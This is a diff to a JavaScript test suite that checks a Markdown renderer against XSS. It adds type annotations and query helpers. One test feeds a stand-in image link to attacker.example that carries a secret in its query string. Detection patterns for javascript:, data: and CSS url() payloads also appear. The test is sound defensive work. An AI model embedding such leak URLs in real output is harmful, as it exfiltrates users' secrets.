@@ -1,9 +1,24 @@
 import { describe, expect, it } from "vitest";
 import corpus from "../../tests/xss_corpus.json";
 import { isSafeUrl, renderMarkdown, sanitize } from "../markdown.js";
+import { all, one } from "./query.js";
 
-const attacks = corpus.filter((c) => !c.benign);
-const benign = corpus.filter((c) => c.benign);
+/**
+ * One case of tests/xss_corpus.json (the Python render tests read it too). A benign case says
+ * what its rendering must contain.
+ * @typedef {object} Case
+ * @property {string} id
+ * @property {string} markdown
+ * @property {string} note
+ * @property {boolean} [benign]
+ * @property {{text?: string[], code?: string[], links?: string[], table?: boolean,
+ *   math_inline?: string[], math_display?: string[], no_math?: boolean}} [expect]
+ */
+
+/** @type {Case[]} */
+const cases = corpus;
+const attacks = cases.filter((c) => !c.benign);
+const benign = cases.filter((c) => c.benign);
 
 const FORBIDDEN_TAGS = [
   "script", "iframe", "frame", "object", "embed", "img", "image", "style", "form", "input",
@@ -18,7 +33,10 @@ function render(markdown) {
   return div;
 }
 
-/** Everything that could run code or load something, found in a rendered tree. */
+/**
+ * Everything that could run code or load something, found in a rendered tree.
+ * @param {Element} root
+ */
 function dangers(root) {
   const found = [];
   for (const el of root.querySelectorAll("*")) {
@@ -37,7 +55,7 @@ function dangers(root) {
       if (name === "style" && /url\s*\(|expression|@import/i.test(value)) found.push(`${tag}[style=${value}]`);
       if (/^\s*(javascript|vbscript|data):/i.test(value)) found.push(`${tag}[${name}=${value}]`);
     }
-    if (tag === "a" && el.hasAttribute("href") && !el.getAttribute("href").startsWith("#")) {
+    if (tag === "a" && el.hasAttribute("href") && !(el.getAttribute("href") || "").startsWith("#")) {
       if (el.getAttribute("rel") !== "noopener noreferrer") found.push("a without rel");
       if (el.getAttribute("target") !== "_blank") found.push("a without target");
     }
@@ -63,7 +81,7 @@ describe("XSS corpus (tests/xss_corpus.json)", () => {
   it("remote images become links, never images", () => {
     const div = render("![chart](https://attacker.example/leak.png?secret=KEY)");
     expect(div.querySelector("img")).toBeNull();
-    const a = div.querySelector("a.nbc-remote-image");
+    const a = one(div, "a.nbc-remote-image");
     expect(a.getAttribute("href")).toBe("https://attacker.example/leak.png?secret=KEY");
     expect(a.textContent).toContain("chart");
   });
@@ -81,7 +99,7 @@ describe("XSS corpus (tests/xss_corpus.json)", () => {
     const div = document.createElement("div");
     div.innerHTML = html;
     expect(dangers(div)).toEqual([]);
-    expect(div.querySelector('a[href="https://ok.example"]').getAttribute("rel")).toBe("noopener noreferrer");
+    expect(one(div, 'a[href="https://ok.example"]').getAttribute("rel")).toBe("noopener noreferrer");
   });
 });
 
@@ -100,8 +118,8 @@ describe("benign Markdown still renders", () => {
       expect(hrefs).toContain(href);
     }
     if (expectations.table) expect(div.querySelector("table")).not.toBeNull();
-    const tex = (sel) =>
-      [...div.querySelectorAll(sel)].filter((e) => e.querySelector(".katex")).map((e) => e.dataset.tex);
+    const tex = (/** @type {string} */ sel) =>
+      all(div, sel).filter((e) => e.querySelector(".katex")).map((e) => e.dataset.tex);
     for (const m of expectations.math_inline || []) expect(tex(".nbc-math:not(.nbc-math-display)")).toContain(m);
     for (const m of expectations.math_display || []) expect(tex(".nbc-math-display")).toContain(m);
     if (expectations.no_math) expect(div.querySelector(".nbc-math, .katex")).toBeNull();
@@ -112,7 +130,7 @@ describe("benign Markdown still renders", () => {
 describe("Markdown features", () => {
   it("highlights fenced code by language", () => {
     const div = render("```python\ndef f(x):\n    return 'a'\n```");
-    const code = div.querySelector("pre code");
+    const code = one(div, "pre code");
     expect(code.classList.contains("language-python")).toBe(true);
     expect(code.querySelector(".hljs-keyword")).not.toBeNull();
     expect(code.textContent).toBe("def f(x):\n    return 'a'\n");
@@ -120,7 +138,7 @@ describe("Markdown features", () => {
 
   it("unknown languages are escaped, not highlighted", () => {
     const div = render("```nosuchlang\n<b>x</b>\n```");
-    expect(div.querySelector("pre code").textContent).toBe("<b>x</b>\n");
+    expect(one(div, "pre code").textContent).toBe("<b>x</b>\n");
     expect(div.querySelector("b")).toBeNull();
   });
 
@@ -132,7 +150,7 @@ describe("Markdown features", () => {
 
   it("keeps KaTeX's own SVG drawing (\\sqrt) intact", () => {
     const div = render("$\\sqrt{x^2+1}$");
-    const path = div.querySelector(".katex svg path");
+    const path = one(div, ".katex svg path", SVGElement);
     expect(path).not.toBeNull();
     expect(path.getAttribute("d")?.length).toBeGreaterThan(20);
   });
@@ -161,7 +179,7 @@ describe("Markdown features", () => {
   });
 
   it("links open in a new tab without referrer", () => {
-    const a = render("[docs](https://docs.python.org/)").querySelector("a");
+    const a = one(render("[docs](https://docs.python.org/)"), "a");
     expect(a.getAttribute("target")).toBe("_blank");
     expect(a.getAttribute("rel")).toBe("noopener noreferrer");
   });
